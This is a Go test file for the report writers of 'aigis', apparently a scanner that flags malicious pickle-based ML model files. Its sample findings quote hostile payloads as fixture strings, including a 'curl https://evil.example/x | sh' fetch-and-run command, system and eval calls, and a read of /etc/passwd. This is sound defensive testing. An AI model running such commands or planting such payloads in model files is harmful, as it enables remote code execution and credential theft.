package report

import (
	"bytes"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/aigis-sec/aigis/finding"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// Rules of the sample report. They read like real aigis rules so that the
// golden files show what a user would see.
var (
	ruleExec = finding.Rule{
		ID:          "pickle-code-exec",
		Severity:    finding.Critical,
		Title:       "Loading the file runs arbitrary code",
		Description: "A pickle can call any Python callable while it is loaded; this one reaches a callable that runs commands or code.",
		ATLAS:       []string{"AML.T0011.000", "AML.T0010.003"},
		Remediation: "Do not load this file. Ask the publisher for a safetensors copy, or load only the weights with torch.load(weights_only=True).",
	}
	ruleFile = finding.Rule{
		ID:          "pickle-file-access",
		Severity:    finding.High,
		Title:       "Loading the file reads or writes files",
		Description: "The pickle reaches a callable that opens, writes or deletes files.",
		ATLAS:       []string{"AML.T0011.000"},
		Remediation: "Do not load this file; obtain the model in a format that cannot run code.",
	}
	ruleCustom = finding.Rule{
		ID:          "pickle-unknown-callable",
		Severity:    finding.Medium,
		Title:       "Loading the file calls a custom class",
		Description: "A third-party or user callable that is neither allowed nor denied.",
		ATLAS:       []string{"AML.T0010.003"},
		Remediation: "Review the class, then allow it in the configuration if it is expected.",
	}
	rulePickleFormat = finding.Rule{
		ID:          "format-pickle",
		Severity:    finding.Low,
		Title:       "Weights are stored in a pickle",
		Description: "Pickle-based formats can run code when loaded.",
		Remediation: "Prefer safetensors.",
	}
	ruleMetadata = finding.Rule{
		ID:          "model-metadata",
		Severity:    finding.Info,
		Title:       "Model metadata",
		Description: "What the file says about itself.",
	}
	// ruleUnused fires nowhere in the sample; SARIF must still list it.
	ruleUnused = finding.Rule{
		ID:          "gguf-chat-template",
		Severity:    finding.High,
		Title:       "Chat template runs code",
		Description: "A Jinja chat template that escapes its sandbox.",
		ATLAS:       []string{"AML.T0010.003"},
		Remediation: "Remove the template.",
	}
)

func newFinding(r finding.Rule, sev finding.Severity, path, member string, off int64, msg string, ev map[string]string) finding.Finding {
	return finding.New(r, sev, finding.Location{Path: path, Member: member, Offset: off}, msg, ev)
}

// sampleReport has findings at every severity, two files with members, a
// finding inside a nested member, an incomplete entry and a declared rule
// that never fired. Findings are deliberately out of order: writers sort.
func sampleReport() *finding.Report {
	return &finding.Report{
		SchemaVersion: finding.SchemaVersion,
		Tool:          finding.Tool{Name: "aigis", Version: "0.1.0"},
		Targets: []finding.Target{
			{Path: "m/model.pt", Kind: "pytorch-zip", Size: 1234, SHA256: strings.Repeat("ab", 32)},
			{Path: "bundle.tar", Kind: "tar", Size: 40960, SHA256: strings.Repeat("cd", 32)},
			{Path: "clean/model.safetensors", Kind: "safetensors", Size: 2048, SHA256: strings.Repeat("ef", 32)},
		},
		Findings: []finding.Finding{
			newFinding(ruleCustom, finding.Medium, "m/model.pt", "archive/data.pkl", 512,
				"mymodel.Net is instantiated when the file is loaded",
				map[string]string{"callable": "mymodel.Net", "args": "()"}),
			newFinding(ruleExec, finding.Critical, "m/model.pt", "archive/data.pkl", 57,
				"posix.system('echo pwned') is called when the file is loaded",
				map[string]string{"callable": "posix.system", "args": "'echo pwned'"}),
			newFinding(ruleMetadata, finding.Info, "clean/model.safetensors", "", 0,
				"safetensors file with 12 tensors (F16), no metadata", nil),
			newFinding(ruleExec, finding.Critical, "bundle.tar", "a.zip!b.npz!c.npy", 80,
				"builtins.exec('import os; os.system(\"curl https://evil.example/x | sh\")') is called when the array is loaded",
				map[string]string{"callable": "builtins.exec", "args": "'import os; …'"}),
			newFinding(ruleFile, finding.High, "m/model.pt", "archive/data.pkl", 210,
				"builtins.open('/etc/passwd') is called when the file is loaded",
				map[string]string{"callable": "builtins.open", "args": "'/etc/passwd'"}),
			newFinding(rulePickleFormat, finding.Low, "m/model.pt", "", 0,
				"PyTorch checkpoint stores its weights in a pickle", nil),
			newFinding(ruleExec, finding.Critical, "m/model.pt", "archive/data.pkl", 388,
				"builtins.eval('__import__(\"os\").system(\"id\")') is called when the file is loaded",
				map[string]string{"callable": "builtins.eval", "args": "'…'"}),
		},
		Incomplete: []finding.Incomplete{
			{Path: "bundle.tar", Member: "a.zip!secret.zip", Reason: "encrypted member: cannot be read without its password"},
		},
		Rules: []finding.Rule{ruleExec, ruleFile, ruleCustom, rulePickleFormat, ruleMetadata, ruleUnused},
	}
}

func emptyReport() *finding.Report {
	return &finding.Report{
		SchemaVersion: finding.SchemaVersion,
		Tool:          finding.Tool{Name: "aigis", Version: "0.1.0"},
	}
}

func write(t *testing.T, format string, r *finding.Report, opt Options) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := Write(&buf, format, r, opt); err != nil {
		t.Fatalf("Write(%s): %v", format, err)
	}
	return buf.Bytes()
}

// golden compares got with testdata/name, or rewrites it under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	p := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatalf("%v (run go test ./report -update to create it)", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s differs from the golden file (-want +got):\n%s", name, diff)
	}
}

func TestFormats(t *testing.T) {
	if diff := cmp.Diff([]string{"table", "json", "sarif"}, Formats()); diff != "" {
		t.Errorf("Formats (-want +got):\n%s", diff)
	}
	// Every advertised format must actually be written.
	for _, f := range Formats() {
		if out := write(t, f, sampleReport(), Options{}); len(out) == 0 {
			t.Errorf("format %s wrote nothing", f)
		}
	}
	for _, f := range RuleFormats() {
		var buf bytes.Buffer
		if err := WriteRules(&buf, f, sampleReport().Rules); err != nil || buf.Len() == 0 {
			t.Errorf("WriteRules(%s) = %v, %d bytes", f, err, buf.Len())
		}
	}
}

func TestUnknownFormat(t *testing.T) {
	tests := []struct {
		name string
		call func(*bytes.Buffer) error
		want string
	}{
		{"report", func(b *bytes.Buffer) error { return Write(b, "xml", sampleReport(), Options{}) }, "table, json, sarif"},
		{"rules", func(b *bytes.Buffer) error { return WriteRules(b, "sarif", nil) }, "table, json"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			err := tt.call(&buf)
			if !errors.Is(err, ErrUnknownFormat) {
				t.Fatalf("error = %v, want ErrUnknownFormat", err)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %q does not list the valid formats %q", err, tt.want)
			}
			if buf.Len() != 0 {
				t.Errorf("wrote %d bytes for an unknown format", buf.Len())
			}
		})
	}
}

// TestWriteLeavesReportAlone: writers sort a copy; the caller's report, which
// the CLI may write twice (table and --output sarif), must not change.
func TestWriteLeavesReportAlone(t *testing.T) {
	r := sampleReport()
	before := sampleReport()
	for _, f := range Formats() {
		write(t, f, r, Options{})
	}
	if diff := cmp.Diff(before, r); diff != "" {
		t.Errorf("Write changed the report (-before +after):\n%s", diff)
	}
}

func TestNilReport(t *testing.T) {
	for _, f := range Formats() {
		if out := write(t, f, nil, Options{FailOn: finding.High}); len(out) == 0 {
			t.Errorf("format %s wrote nothing for a nil report", f)
		}
	}
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriteError(t *testing.T) {
	for _, f := range Formats() {
		if err := Write(failingWriter{}, f, sampleReport(), Options{}); err == nil || !strings.Contains(err.Error(), "disk full") {
			t.Errorf("Write(%s) to a failing writer = %v, want the write error", f, err)
		}
	}
}
